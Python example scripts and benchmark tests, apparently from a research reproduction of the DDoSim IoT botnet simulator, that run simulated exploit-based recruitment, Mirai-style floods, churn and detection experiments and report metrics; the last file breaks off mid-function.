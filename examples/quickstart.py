#!/usr/bin/env python3
"""Quickstart: one DDoSim run, end to end.

Builds a 12-device IoT fleet (Connman/Dnsmasq mix with random W^X/ASLR
profiles), lets the Attacker recruit it through the two memory-error
CVE exploit chains, fires a 60-second Mirai UDP-PLAIN flood at TServer,
and prints what the paper's metrics look like for the run.

Run:  python examples/quickstart.py
"""

from repro import DDoSim, SimulationConfig


def main() -> None:
    config = SimulationConfig(
        n_devs=12,
        seed=7,
        attack_duration=60.0,
        recruit_timeout=40.0,
        sim_duration=300.0,
    )
    print(f"Building DDoSim: {config.n_devs} Devs, seed {config.seed} ...")
    ddosim = DDoSim(config)
    result = ddosim.run()

    print("\n--- Recruitment (research questions R1/R2) ---")
    recruitment = result.recruitment
    print(f"devices targeted:    {recruitment.devs_total}")
    print(f"bots recruited:      {recruitment.bots_recruited}"
          f"  (infection rate {recruitment.infection_rate:.0%})")
    print(f"per binary:          {recruitment.by_binary}")
    print(f"pointer leaks used:  {recruitment.leaks_harvested}")
    print(f"first/last bot at:   {recruitment.first_bot_time:.1f}s /"
          f" {recruitment.last_bot_time:.1f}s")

    print("\n--- Attack magnitude (research question R3, Eq. 2) ---")
    attack = result.attack
    print(f"attack issued at:    {attack.issued_at:.1f}s for {attack.duration:.0f}s")
    print(f"bots commanded:      {attack.bots_commanded}")
    print(f"avg received rate:   {attack.avg_received_kbps:.1f} kbps")
    print(f"peak received rate:  {attack.peak_received_kbps:.1f} kbps")
    print(f"offered vs received: {attack.offered_kbps:.1f} kbps ->"
          f" delivery ratio {attack.delivery_ratio:.3f}")
    print(f"congestion drops:    {attack.queue_drops} packets")

    print("\n--- Host resources (Table I model) ---")
    resources = result.resources
    print(f"pre-attack memory:   {resources.pre_attack_mem_gb:.2f} GB")
    print(f"attack memory:       {resources.attack_mem_gb:.2f} GB")
    print(f"attack wall time:    {resources.attack_time_mmss()} (m:ss)")

    print("\n--- A peek inside one compromised device ---")
    dev = ddosim.devs.devs[0]
    print(f"{dev.name}: ran {dev.kind} with protections "
          f"{'+'.join(dev.protections) or 'none'} at {dev.rate_bps/1000:.0f} kbps")
    for line in dev.container.logs:
        print(f"  {line}")
    survivors = [p.name for p in dev.container.processes.values()]
    print(f"  processes now: {survivors}  (obfuscated Mirai bot)")

    print("\n--- Insights (paper SIV-C) ---")
    from repro.core.insights import extract_insights

    print(extract_insights(ddosim, result).report())


if __name__ == "__main__":
    main()
