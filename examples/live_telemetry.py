#!/usr/bin/env python3
"""Real-time analysis at any stage: telemetry over a full run.

The paper: "DDoSim permits real-time analysis and investigation of
botnet DDoS attacks at any stage, allowing users to quantify attack
severity ..., assess botnet magnitude ..., and scrutinize compromised
devices."  This example samples the whole system every 5 simulated
seconds and renders the run's life cycle — recruitment ramp, idle
pre-attack phase, the flood, cooldown — as an ASCII timeline.

It also runs fully instrumented (``Observatory.full()``) to show the
rest of the observability layer: the typed event trace — when each
device was recruited, when exploits landed — the causal span tree that
chains exploit → recruit → flood train, the always-on flight recorder,
and the scheduler profile.

Run:  python examples/live_telemetry.py
"""

from repro.core import DDoSim, SimulationConfig, TelemetrySampler
from repro.obs import Observatory


def main() -> None:
    config = SimulationConfig(
        n_devs=20,
        seed=8,
        attack_duration=60.0,
        recruit_timeout=40.0,
        sim_duration=300.0,
    )
    ddosim = DDoSim(config, observatory=Observatory.full())
    telemetry = TelemetrySampler(ddosim, interval=5.0)
    print(f"running {config.n_devs}-device scenario with 5 s telemetry ...\n")
    result = ddosim.run()

    peak = max(telemetry.series.peak_received_rate_kbps(), 1.0)
    print("  t(s)  bots  online  rx kbps   timeline")
    for sample in telemetry.series.samples:
        bar = "#" * int(40 * sample.received_rate_kbps / peak)
        marker = ""
        if abs(sample.time - result.attack.issued_at) < 2.5:
            marker = "  <- attack command"
        print(
            f"{sample.time:6.0f}  {sample.bots_connected:4d}  "
            f"{sample.devs_online:6d}  {sample.received_rate_kbps:8.0f}"
            f"   {bar}{marker}"
        )

    print(
        f"\nbotnet magnitude over time (infected devices): "
        f"{telemetry.series.infection_curve()[:12]} ..."
    )
    print(
        f"attack: {result.attack.avg_received_kbps:.0f} kbps average, "
        f"{telemetry.series.peak_received_rate_kbps():.0f} kbps peak "
        f"(sampled)"
    )

    # The typed event trace: scrutinize individual compromises.
    tracer = ddosim.obs.tracer
    print("\nfirst five recruitments (from the cnc.recruit event stream):")
    for event in tracer.events("cnc.recruit")[:5]:
        print(
            f"  t={event.t:7.2f}s  bot {event.fields['bot_id']:3d}  "
            f"{event.fields['address']}  [{event.fields['architecture']}]"
        )
    counts = tracer.counts()
    interesting = ("exploit.attempt", "exploit.success", "cnc.recruit",
                   "queue.drop")
    print("\nevent counts: " + ", ".join(
        f"{name}={counts.get(name, 0)}" for name in interesting
    ))

    # The causal span tree: why each bot flooded, not just that it did.
    spans = ddosim.obs.spans
    kinds = spans.kinds()
    print("\ncausal spans: " + ", ".join(
        f"{kind}={count}" for kind, count in sorted(kinds.items())
    ))
    chain = next(root for root in spans.tree() if root["kind"] == "exploit")
    print("one recruitment chain, exploit to bot:")
    node, depth = chain, 0
    while node is not None:
        entity = node.get("entity", "")
        print(f"  {'  ' * depth}{node['kind']}  [{entity}]  "
              f"status={node['status']}")
        children = node.get("children", [])
        node, depth = (children[0], depth + 1) if children else (None, depth)
    trains = [s for s in spans.spans() if s.kind == "attack.train"]
    delivered = sum(s.packets_delivered for s in trains)
    print(f"flood attribution: {len(trains)} trains delivered "
          f"{delivered} packets to the sink")

    # The flight recorder rides along in every run (even the default
    # Observatory); nothing died here, so the ring holds landmarks but
    # no dump was forced.
    recorder = ddosim.obs.recorder
    print(f"\nflight recorder: {recorder.noted} landmarks noted, "
          f"{len(recorder.recent())} in the ring, "
          f"{len(recorder.dumps)} dumps (none forced — clean run)")

    print("\nscheduler hot sites:")
    print(ddosim.obs.profiler.format_table(limit=5))


if __name__ == "__main__":
    main()
