#!/usr/bin/env python3
"""Churn study: how dynamic IoT network conditions blunt a DDoS attack.

A miniature of the paper's Figure 2 experiment: the same fleet is
attacked under the three churn regimes (none / static / dynamic, per Fan
et al.'s leaving-probability model, Eq. 1), and the average received
data rate at TServer is compared.

Run:  python examples/churn_study.py
"""

from repro import DDoSim, SimulationConfig, format_table


def run_mode(churn: str, n_devs: int = 40, seed: int = 5):
    config = SimulationConfig(
        n_devs=n_devs,
        seed=seed,
        churn=churn,
        attack_duration=80.0,
        recruit_timeout=40.0,
        sim_duration=400.0,
    )
    return DDoSim(config).run()


def main() -> None:
    rows = []
    for churn in ("none", "static", "dynamic"):
        print(f"running churn={churn} ...")
        result = run_mode(churn)
        rows.append(
            {
                "churn": churn,
                "bots_at_attack": result.attack.bots_commanded,
                "departures": result.churn.departures,
                "rejoins": result.churn.rejoins,
                "online_at_end": result.churn.online_at_end,
                "avg_received_kbps": round(result.attack.avg_received_kbps, 1),
                "delivery_ratio": round(result.attack.delivery_ratio, 3),
            }
        )

    print()
    print(format_table(rows))
    none_rate = rows[0]["avg_received_kbps"]
    dynamic_rate = rows[2]["avg_received_kbps"]
    reduction = (none_rate - dynamic_rate) / none_rate
    print(
        f"\nDynamic churn reduced attack severity by {reduction:.1%} "
        f"relative to the no-churn fleet — the paper's R3 observation: "
        f"'dynamic IoT network conditions tend to reduce the attack's severity'."
    )


if __name__ == "__main__":
    main()
