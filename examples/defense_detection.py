#!/usr/bin/env python3
"""Use case V-A1: testing an ML DDoS defense against DDoSim traffic.

Pipeline (exactly the paper's description of the use case):

1. simulate a scenario that sends *both* benign and attack traffic at
   TServer — benign OnOff web-ish clients plus the Mirai UDP-PLAIN flood;
2. capture every packet TServer receives and slice the capture into
   1-second windows of flow features (rates, packet sizes, source
   entropy, protocol mix);
3. train a from-scratch logistic-regression classifier on a split of the
   windows and report detection quality on held-out data.

Run:  python examples/defense_detection.py
"""

import numpy as np

from repro.analysis.dataset import generate_detection_dataset
from repro.analysis.detection import LogisticRegressionClassifier, train_test_split
from repro.analysis.features import FEATURE_NAMES
from repro.core.config import SimulationConfig


def main() -> None:
    config = SimulationConfig(
        n_devs=15,
        seed=3,
        attack_duration=60.0,
        recruit_timeout=40.0,
        sim_duration=300.0,
    )
    print("Simulating mixed benign + attack traffic at TServer ...")
    dataset = generate_detection_dataset(
        config=config, n_benign_clients=8, seed=3
    )
    print(
        f"captured {len(dataset.y)} one-second windows "
        f"({dataset.attack_fraction:.0%} during the flood, "
        f"attack window {dataset.attack_interval[0]:.0f}-"
        f"{dataset.attack_interval[1]:.0f}s)"
    )

    X_train, y_train, X_test, y_test = train_test_split(
        dataset.X, dataset.y, test_fraction=0.3, seed=0
    )
    print(f"training logistic regression on {len(y_train)} windows ...")
    model = LogisticRegressionClassifier(epochs=400).fit(X_train, y_train)
    metrics = model.evaluate(X_test, y_test)

    print("\n--- held-out detection quality ---")
    print(f"accuracy : {metrics.accuracy:.3f}")
    print(f"precision: {metrics.precision:.3f}")
    print(f"recall   : {metrics.recall:.3f}")
    print(f"f1       : {metrics.f1:.3f}")
    print(
        f"confusion: tp={metrics.true_positives} fp={metrics.false_positives} "
        f"tn={metrics.true_negatives} fn={metrics.false_negatives}"
    )

    print("\n--- most discriminative features (|standardized weight|) ---")
    assert model.weights is not None
    order = np.argsort(-np.abs(model.weights))
    for index in order[:5]:
        print(f"{FEATURE_NAMES[index]:>20s}: {model.weights[index]:+.3f}")


if __name__ == "__main__":
    main()
