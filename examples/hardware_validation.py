#!/usr/bin/env python3
"""Framework validation: DDoSim vs the hardware-testbed model (Figure 4).

The paper validates DDoSim by running identical experiments on real
hardware (Raspberry Pis on a Netgear router's WiFi) and comparing the
received-rate curves.  This example runs the same comparison against the
independent CSMA/CA WiFi testbed model for 1-10 devices.

Run:  python examples/hardware_validation.py
"""

from repro import DDoSim, SimulationConfig, format_table
from repro.hardware import HardwareTestbed


def main() -> None:
    rows = []
    for n_devs in (1, 3, 5, 8, 10):
        config = SimulationConfig(
            n_devs=n_devs,
            seed=1,
            attack_duration=40.0,
            recruit_timeout=40.0,
            sim_duration=250.0,
        )
        print(f"n_devs={n_devs}: running both models ...")
        hardware = HardwareTestbed(config).run()
        simulated = DDoSim(config).run()
        hw = hardware.attack.avg_received_kbps
        sim = simulated.attack.avg_received_kbps
        rows.append(
            {
                "n_devs": n_devs,
                "hardware_kbps": round(hw, 1),
                "ddosim_kbps": round(sim, 1),
                "divergence": f"{abs(hw - sim) / max(hw, 1e-9):.1%}",
            }
        )

    print()
    print(format_table(rows))
    print(
        "\nBoth models were recruited via the same exploit chains and run "
        "the same Mirai flood, but over different network physics "
        "(CSMA/CA contention vs star point-to-point queues). Their close "
        "agreement is this reproduction's analogue of the paper's "
        "hardware validation."
    )


if __name__ == "__main__":
    main()
