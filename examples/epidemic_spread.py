#!/usr/bin/env python3
"""Use case V-A2: checking an epidemic model against simulated spread.

The Attacker seeds exactly one infection; the C&C then orders the botnet
to scan the address pool with the same leak-then-ROP DHCPv6 exploit, so
the infection spreads worm-style.  The C&C registration log is the
measured infection curve I(t), which we fit with the analytic SI
(logistic) model and print side by side.

Run:  python examples/epidemic_spread.py
"""

from repro.analysis.epidemic import fit_si_model, run_propagation_experiment, si_curve


def main() -> None:
    n_devs = 30
    print(f"seeding 1 infection in a {n_devs}-device dnsmasq fleet ...")
    result = run_propagation_experiment(
        n_devs=n_devs,
        seed=4,
        duration=400.0,
        probes_per_second=2.0,
        pool_factor=4.0,
    )
    print(
        f"scanned pool: {result.pool_size} addresses; "
        f"final infected: {result.final_infected}/{n_devs}"
    )

    times, infected = result.as_arrays()
    fit = fit_si_model(times, infected, population=n_devs, i0=1)
    model = si_curve(times, fit.beta, n_devs, i0=1)
    print(f"\nSI fit: beta={fit.beta:.4f}/s, RMSE={fit.rmse:.2f}, "
          f"R^2={fit.r_squared:.3f}")

    print("\n  t(s)  measured   SI-model")
    step = max(1, len(times) // 16)
    for index in range(0, len(times), step):
        bar = "#" * int(infected[index])
        print(f"{times[index]:6.0f}  {infected[index]:8d}   {model[index]:8.1f}  {bar}")

    print(
        "\nThe measured curve follows the logistic SI solution closely — "
        "DDoSim can validate (or falsify) mathematical spread models, the "
        "paper's second envisioned use case."
    )


if __name__ == "__main__":
    main()
