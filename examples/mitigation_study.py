#!/usr/bin/env python3
"""Testing defenses in DDoSim: per-source rate policing at the victim.

The paper's §V-A1 envisions DDoSim for "testing/validating proposed
defense strategies", and its insights section suggests limiting device
data rates.  This example runs the identical botnet attack twice — once
undefended, once with a token-bucket per-source policer installed on
TServer — and compares the accepted attack volume and what happens to a
legitimate client during the flood.

Run:  python examples/mitigation_study.py
"""

from repro import DDoSim, SimulationConfig
from repro.analysis.defenses import PerSourcePolicer
from repro.netsim.application import OnOffApplication
from repro.netsim.node import Node


def build(config, with_policer: bool):
    ddosim = DDoSim(config)
    # One legitimate client streaming modest traffic at TServer.
    client = Node(ddosim.sim, "legit-client")
    ddosim.star.attach_host(client, 2e6, delay=0.015)
    app = OnOffApplication(
        client, ddosim.tserver.address, 80,
        rate_bps=48_000, packet_size=300,
        on_seconds=1e9, off_seconds=1.0,  # always on
    )
    app.schedule_start(0.5)
    policer = None
    if with_policer:
        policer = PerSourcePolicer(
            ddosim.tserver.node, rate_bps=64_000, burst_bytes=16_000
        )
        ddosim.build()
        ddosim.sim.schedule(0.01, policer.install)
    return ddosim, app, policer


def main() -> None:
    config = SimulationConfig(
        n_devs=25,
        seed=6,
        attack_duration=60.0,
        recruit_timeout=40.0,
        sim_duration=300.0,
    )

    print("running undefended scenario ...")
    undefended_sim, _app, _ = build(config, with_policer=False)
    undefended = undefended_sim.run()

    print("running defended scenario (per-source policer, 64 kbps/source) ...")
    defended_sim, _app, policer = build(config, with_policer=True)
    defended = defended_sim.run()
    assert policer is not None

    print("\n--- attack volume accepted by TServer ---")
    print(f"undefended: {undefended.attack.received_bytes / 1e6:8.2f} MB "
          f"({undefended.attack.avg_received_kbps:.0f} kbps avg)")
    accepted = policer.accepted_bytes
    print(f"defended:   {accepted / 1e6:8.2f} MB accepted, "
          f"{policer.dropped_bytes / 1e6:.2f} MB policed away "
          f"(drop ratio {policer.drop_ratio:.1%})")

    reduction = 1.0 - accepted / max(undefended.attack.received_bytes, 1)
    print(f"\nThe policer cut the accepted flood volume by ~{reduction:.0%} "
          "while each source (including the legitimate client) kept its "
          "64 kbps budget — the paper's 'limit the available data rate' "
          "insight, applied at the victim edge.")


if __name__ == "__main__":
    main()
