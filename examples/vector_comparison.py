#!/usr/bin/env python3
"""Recruitment vectors compared: memory error vs default credentials.

The paper's abstract draws the contrast directly: "Unlike the Mirai
attack, which relies on default credentials, these experiments exploit
memory error vulnerabilities."  This example runs the same fleet under
three attacker configurations — the classic Mirai telnet dictionary, the
paper's memory-error exploit chain, and both — and shows why the paper
argues memory errors are the post-credential-hygiene threat.

Run:  python examples/vector_comparison.py
"""

from repro import format_table
from repro.core.experiment import run_vector_comparison


def main() -> None:
    n_devs = 16
    weak_fraction = 0.6
    print(
        f"fleet: {n_devs} Devs, {weak_fraction:.0%} shipping factory telnet "
        f"credentials\n"
    )
    rows = run_vector_comparison(
        n_devs=n_devs, seed=2, weak_credential_fraction=weak_fraction
    )
    print(format_table(rows))

    by_vector = {row["vector"]: row for row in rows}
    creds = by_vector["credentials"]
    memerr = by_vector["memory_error"]
    print(
        f"\nThe dictionary attack stops at the weak-credential share "
        f"({creds['recruited']}/{n_devs}); the memory-error chain recruits "
        f"everything ({memerr['recruited']}/{n_devs}) regardless of password "
        f"hygiene — the paper's R1 motivation: as credential laws bite, "
        f"attackers move to memory-error vulnerabilities."
    )


if __name__ == "__main__":
    main()
