"""Baseline comparison — memory-error exploits vs default credentials.

The paper's framing (abstract / §I): "Unlike the Mirai attack, which
relies on default credentials, these experiments exploit memory error
vulnerabilities", motivated by credential-hygiene legislation shrinking
the default-password attack surface.

Expected shape on the same fleet (60% of Devs shipping factory
credentials):

* the **credential** vector recruits only the weak-credential share;
* the **memory-error** vector recruits 100% regardless of credentials;
* running **both** is no better than memory-error alone;
* attack magnitude tracks recruitment, so the memory-error botnet hits
  harder than the credential-only one.
"""

from repro.core.experiment import run_vector_comparison
from repro.core.results import format_table

from benchmarks.conftest import banner


def test_baseline_vectors(benchmark, full):
    n_devs = 30 if full else 16

    rows = benchmark.pedantic(
        run_vector_comparison,
        kwargs={"n_devs": n_devs, "seed": 2, "weak_credential_fraction": 0.6},
        rounds=1,
        iterations=1,
    )

    banner("Baseline: memory-error vs default-credential recruitment")
    print(format_table(rows))

    by_vector = {row["vector"]: row for row in rows}
    credentials = by_vector["credentials"]
    memory_error = by_vector["memory_error"]
    both = by_vector["both"]

    assert memory_error["infection_rate"] == 1.0
    assert both["infection_rate"] == 1.0
    assert credentials["recruited"] == credentials["weak_credential_devs"]
    assert credentials["recruited"] < memory_error["recruited"]
    assert (
        credentials["avg_received_kbps"] < memory_error["avg_received_kbps"]
    )
    print(
        f"\nshape checks passed: credentials reach only the weak share "
        f"({credentials['recruited']}/{n_devs}), memory error reaches all "
        f"({memory_error['recruited']}/{n_devs})"
    )
