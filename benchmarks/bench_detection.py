"""Use case V-A1 — ML-based DDoS detection on DDoSim traffic.

Pipeline per the paper's description: generate mixed benign + attack
traffic at TServer, extract windowed features from the capture, train a
classifier, report quality.  Expected outcome: near-perfect separation
of flood windows from benign ones (a volumetric UDP flood is an easy
target; the value demonstrated is the data path).
"""

from repro.analysis.dataset import generate_detection_dataset
from repro.analysis.detection import LogisticRegressionClassifier, train_test_split
from repro.core.config import SimulationConfig

from benchmarks.conftest import banner


def _pipeline(n_devs, n_benign, seed):
    config = SimulationConfig(
        n_devs=n_devs,
        seed=seed,
        attack_duration=60.0,
        recruit_timeout=40.0,
        sim_duration=300.0,
    )
    dataset = generate_detection_dataset(
        config=config, n_benign_clients=n_benign, seed=seed
    )
    X_train, y_train, X_test, y_test = train_test_split(
        dataset.X, dataset.y, test_fraction=0.3, seed=0
    )
    model = LogisticRegressionClassifier(epochs=400).fit(X_train, y_train)
    return dataset, model.evaluate(X_test, y_test)


def test_detection(benchmark, full):
    n_devs = 30 if full else 15

    dataset, metrics = benchmark.pedantic(
        _pipeline, kwargs={"n_devs": n_devs, "n_benign": 8, "seed": 3},
        rounds=1, iterations=1,
    )

    banner("Use case V-A1: ML DDoS detection on simulated traffic")
    print(f"windows: {len(dataset.y)} (attack fraction {dataset.attack_fraction:.2f})")
    print(
        f"accuracy={metrics.accuracy:.3f} precision={metrics.precision:.3f} "
        f"recall={metrics.recall:.3f} f1={metrics.f1:.3f}"
    )
    print(
        f"confusion: tp={metrics.true_positives} fp={metrics.false_positives} "
        f"tn={metrics.true_negatives} fn={metrics.false_negatives}"
    )

    assert metrics.accuracy >= 0.9
    assert metrics.recall >= 0.9
    print("\nshape check passed: flood windows separable from benign traffic")
