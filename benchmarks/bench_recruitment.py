"""R1/R2 — memory-error recruitment across CVEs and protection profiles.

Paper answers: (R1) memory-error vulnerabilities are a viable botnet
recruitment vector; (R2) the attack recruits 100% of targeted Devs, for
both Connman (CVE-2017-12865) and Dnsmasq (CVE-2017-14493) and across
W^X/ASLR protection subsets (the two-stage leak-then-ROP exploit defeats
each combination).
"""

from repro.core.experiment import run_recruitment
from repro.core.results import format_table

from benchmarks.conftest import banner


def test_recruitment(benchmark, full, jobs):
    n_devs = 24 if full else 10

    rows = benchmark.pedantic(
        run_recruitment, kwargs={"n_devs": n_devs, "seed": 1, "jobs": jobs},
        rounds=1, iterations=1,
    )

    banner("R1/R2: infection rate per (binary x protection profile)")
    print(format_table(rows))

    assert len(rows) == 8
    for row in rows:
        assert row["infection_rate"] == 1.0, (
            f"{row['binary']} with {row['protections']} not fully recruited"
        )
        assert row["leaks"] >= row["recruited"]
    print(f"\nshape check passed: 100% infection on all 8 combinations "
          f"({n_devs} Devs each)")
