"""Figure 2 — average received data rate vs number of Devs x churn level.

Paper: 10-150 Devs, three churn levels, 100-second UDP-PLAIN attacks.
Expected shape: sublinear growth in Devs (congestion) and, at every fleet
size, ``no churn >= static churn >= dynamic churn``, with the static >
dynamic gap clear at scale (rejoining bots miss the attack command).
"""

from repro.core.experiment import (
    FIGURE2_CHURN,
    FIGURE2_DEVS_FULL,
    FIGURE2_DEVS_QUICK,
    run_figure2,
)
from repro.core.results import format_table

from benchmarks.conftest import banner


def _sublinear(series):
    """Per-device marginal rate decreases from the first to last step."""
    (n0, r0), (n1, r1) = series[0], series[1]
    (n_last0, r_last0), (n_last1, r_last1) = series[-2], series[-1]
    first_marginal = (r1 - r0) / (n1 - n0)
    last_marginal = (r_last1 - r_last0) / (n_last1 - n_last0)
    return last_marginal < first_marginal


def test_figure2(benchmark, full, jobs):
    devs_grid = FIGURE2_DEVS_FULL if full else FIGURE2_DEVS_QUICK

    rows = benchmark.pedantic(
        run_figure2,
        kwargs={"devs_grid": devs_grid, "churn_modes": FIGURE2_CHURN,
                "seed": 1, "jobs": jobs},
        rounds=1,
        iterations=1,
    )

    banner("Figure 2: avg received data rate vs #Devs x churn")
    print(format_table(rows))

    by_mode = {
        mode: sorted(
            (row["n_devs"], row["avg_received_kbps"])
            for row in rows
            if row["churn"] == mode
        )
        for mode in FIGURE2_CHURN
    }

    # Shape 1: growth is monotone-increasing and sublinear for no-churn.
    none_series = by_mode["none"]
    rates = [rate for _n, rate in none_series]
    assert rates == sorted(rates), "received rate must grow with Devs"
    assert _sublinear(none_series), "growth must be sublinear (congestion)"

    # Shape 2: churn ordering. Past TServer saturation all modes clip to
    # the bottleneck, so check at the largest *unsaturated* fleet size.
    delivery = {
        row["n_devs"]: row["delivery_ratio"]
        for row in rows
        if row["churn"] == "none"
    }
    unsaturated = [n for n in devs_grid if delivery[n] >= 0.95]
    probe = unsaturated[-1] if unsaturated else devs_grid[0]
    rate_at = {mode: dict(by_mode[mode])[probe] for mode in FIGURE2_CHURN}
    assert rate_at["none"] >= rate_at["static"] >= rate_at["dynamic"], (
        f"churn ordering violated at {probe} Devs: {rate_at}"
    )
    assert rate_at["none"] > rate_at["dynamic"], "dynamic churn must reduce severity"
    print(
        f"\nshape checks passed: sublinear growth; "
        f"none({rate_at['none']:.0f}) >= static({rate_at['static']:.0f}) "
        f">= dynamic({rate_at['dynamic']:.0f}) kbps at {probe} Devs"
    )
