"""Microbenchmarks of the simulation engine itself.

These use pytest-benchmark's actual timing (multiple rounds) to track
the hot paths that dominate experiment wall time: the event scheduler,
the point-to-point flood datapath, and TCP byte-stream throughput.
"""

import pytest

from repro.netsim.node import Node
from repro.netsim.simulator import Simulator
from repro.netsim.sink import PacketSink
from repro.netsim.topology import StarInternet


def test_scheduler_throughput(benchmark):
    """Schedule+run 50k no-op events."""

    def run():
        sim = Simulator()
        for index in range(50_000):
            sim.schedule(index * 1e-6, _noop)
        sim.run()
        return sim.events_executed

    executed = benchmark(run)
    assert executed == 50_000


def test_scheduler_throughput_calendar(benchmark):
    """The same 50k no-op events through the calendar-queue scheduler."""

    def run():
        sim = Simulator(scheduler="calendar")
        for index in range(50_000):
            sim.schedule(index * 1e-6, _noop)
        sim.run()
        return sim.events_executed

    executed = benchmark(run)
    assert executed == 50_000


def _noop():
    pass


def _flood_run(train: int, packets: int = 5_000, scheduler: str = "heap"):
    """Push ``packets`` UDP packets through the star (device->router->
    sink) in trains of ``train``; returns (events_executed, received)."""
    sim = Simulator(scheduler=scheduler)
    star = StarInternet(sim)
    sender = Node(sim, "sender")
    receiver = Node(sim, "receiver")
    # Deep queues: this measures datapath cost, not drop behaviour.
    star.attach_host(sender, 100e6, delay=0.001, queue_packets=6_000)
    star.attach_host(receiver, 100e6, delay=0.001, queue_packets=6_000)
    sink = PacketSink(receiver)
    sink.start()
    destination = star.address_of(receiver)
    udp = sender.udp
    if train == 1:
        for _ in range(packets):
            udp.send_datagram(None, destination, 7777, src_port=9, payload_size=512)
    else:
        for _ in range(packets // train):
            udp.send_train(destination, 7777, train, src_port=9, payload_size=512)
    sim.run()
    return sim.events_executed, sink.total_packets


def test_flood_datapath(benchmark):
    """Per-packet flood datapath (train=1, the seed-exact path)."""

    received = benchmark(lambda: _flood_run(train=1)[1])
    assert received == 5_000


def test_flood_datapath_train(benchmark):
    """Train-batched flood datapath (K=8): the ISSUE's >=3x target.

    Asserts the structural win directly — events per packet drop by
    more than 3x versus the per-packet baseline — which is what makes
    the wall-time speedup hold on any host.
    """
    events, received = benchmark(lambda: _flood_run(train=8))
    assert received == 5_000
    baseline_events, baseline_received = _flood_run(train=1)
    assert baseline_received == 5_000
    assert events * 3 <= baseline_events, (
        f"train=8 ran {events} events vs {baseline_events} at train=1"
    )


def test_flood_datapath_train_calendar(benchmark):
    """Train-batched flood through the calendar scheduler: identical
    event count and delivery to the heap scheduler."""
    events, received = benchmark(
        lambda: _flood_run(train=8, scheduler="calendar")
    )
    assert received == 5_000
    heap_events, _ = _flood_run(train=8, scheduler="heap")
    assert events == heap_events


def _flood_scenario(flow: str, train: int = 1, duration: float = 50.0,
                    rate: float = 1e6):
    """One bot flooding a sink for ``duration`` seconds at ``rate`` bps
    through the real attack generators; returns (events, sink_bytes).

    ``flow='off'`` paces per-packet/train events (the seed datapath);
    ``'auto'``/``'all'`` run the fluid engine with packet crossover at
    the last hop / fully analytic.
    """
    from repro.botnet.attacks import AttackStats, udp_plain_flood, udp_plain_flow
    from repro.netsim.flows import FlowEngine
    from repro.netsim.process import SimProcess

    sim = Simulator()
    star = StarInternet(sim)
    sender = Node(sim, "sender")
    receiver = Node(sim, "receiver")
    star.attach_host(sender, rate, delay=0.001, queue_packets=6_000)
    star.attach_host(receiver, 100e6, delay=0.001, queue_packets=6_000)
    sink = PacketSink(receiver)
    sink.start()
    destination = star.address_of(receiver)
    stats = AttackStats()
    if flow == "off":
        generator = udp_plain_flood(
            sender, destination, 7777, duration, stats=stats, src_port=9,
            train=train,
        )
    else:
        FlowEngine(sim, mode=flow, train=max(train, 16))
        generator = udp_plain_flow(
            sender, destination, 7777, duration, stats=stats, src_port=9,
        )
    SimProcess(sim, generator, name="flood")
    sim.run(until=duration + 5.0)
    if sim.flows is not None:
        sim.flows.flush()
    return sim.events_executed, sink.total_bytes


def test_flood_flow_datapath(benchmark):
    """The fluid-flow flood: ISSUE 7's >=10x fewer events and >=5x
    wall-clock targets versus the per-packet path, asserted directly
    and recorded as ratios in the committed benchmark JSON."""
    import time

    t0 = time.perf_counter()
    packet_events, packet_bytes = _flood_scenario("off")
    packet_wall = time.perf_counter() - t0
    t0 = time.perf_counter()
    flow_events, flow_bytes = _flood_scenario("all")
    flow_wall = time.perf_counter() - t0

    events, nbytes = benchmark(lambda: _flood_scenario("all"))
    assert events == flow_events
    # Exact in expectation: analytic delivery within 1% of packet mode.
    assert abs(nbytes - packet_bytes) <= 0.01 * packet_bytes
    assert events * 10 <= packet_events, (
        f"flow mode ran {events} events vs {packet_events} per-packet"
    )
    assert flow_wall * 5 <= packet_wall, (
        f"flow mode took {flow_wall:.3f}s vs {packet_wall:.3f}s per-packet"
    )
    benchmark.extra_info["packet_events"] = packet_events
    benchmark.extra_info["flow_events"] = events
    benchmark.extra_info["event_reduction"] = round(packet_events / events, 1)
    benchmark.extra_info["wall_speedup"] = round(packet_wall / flow_wall, 1)


def test_flood_flow_crossover_auto(benchmark):
    """Hybrid crossover: fluid upstream, real packet trains at the last
    hop.  Still a large event cut, with byte parity to packet mode."""
    packet_events, packet_bytes = _flood_scenario("off")
    events, nbytes = benchmark(lambda: _flood_scenario("auto"))
    assert abs(nbytes - packet_bytes) <= 0.01 * packet_bytes
    assert events * 5 <= packet_events, (
        f"auto crossover ran {events} events vs {packet_events} per-packet"
    )
    benchmark.extra_info["event_reduction"] = round(packet_events / events, 1)


def test_flood_flow_vs_train_vs_packet(benchmark):
    """The full datapath ladder on one flood: per-packet, train=8,
    hybrid crossover, fully fluid — event counts per tier recorded so
    BENCH_engine.json tracks the whole perf trajectory."""
    ladder = {}
    for label, kwargs in (
        ("packet", dict(flow="off", train=1)),
        ("train8", dict(flow="off", train=8)),
        ("auto", dict(flow="auto")),
        ("all", dict(flow="all")),
    ):
        events, nbytes = _flood_scenario(**kwargs)
        ladder[label] = (events, nbytes)
    # Strictly decreasing event counts down the ladder.
    assert (ladder["packet"][0] > ladder["train8"][0]
            > ladder["auto"][0] > ladder["all"][0])
    # Byte parity within 1% across every tier.
    reference = ladder["packet"][1]
    for label, (_events, nbytes) in ladder.items():
        assert abs(nbytes - reference) <= 0.01 * reference, label

    events, _ = benchmark(lambda: _flood_scenario("all"))
    for label, (tier_events, _nbytes) in ladder.items():
        benchmark.extra_info[f"events_{label}"] = tier_events
    benchmark.extra_info["flow_vs_packet"] = round(
        ladder["packet"][0] / events, 1
    )
    benchmark.extra_info["flow_vs_train8"] = round(
        ladder["train8"][0] / events, 1
    )


def test_fault_injector_zero_overhead_without_plan(benchmark):
    """Fault-injection smoke: an empty FaultPlan adds no behaviour.

    The no-fault path must stay byte-identical — same event count, same
    result JSON, same metric snapshot — whether ``faults`` is absent or
    an armed-but-empty plan, so the injector costs ~0 when unused.
    """
    from repro.core.config import SimulationConfig
    from repro.core.framework import DDoSim
    from repro.faults import FaultPlan
    from repro.serialization import result_to_json

    def config(plan):
        return SimulationConfig(
            n_devs=2, seed=1, attack_duration=10.0, recruit_timeout=30.0,
            sim_duration=120.0, faults=plan,
        )

    def run(plan):
        ddosim = DDoSim(config(plan))
        result = ddosim.run()
        return (
            ddosim.sim.events_executed,
            result_to_json(result),
            ddosim.obs.metrics.to_json(),
        )

    baseline = run(None)
    armed = benchmark(lambda: run(FaultPlan()))
    assert armed == baseline


def _tiny_sweep_kwargs():
    from repro.core.config import SimulationConfig

    return dict(
        devs_grid=(2, 3),
        churn_modes=("none",),
        seed=1,
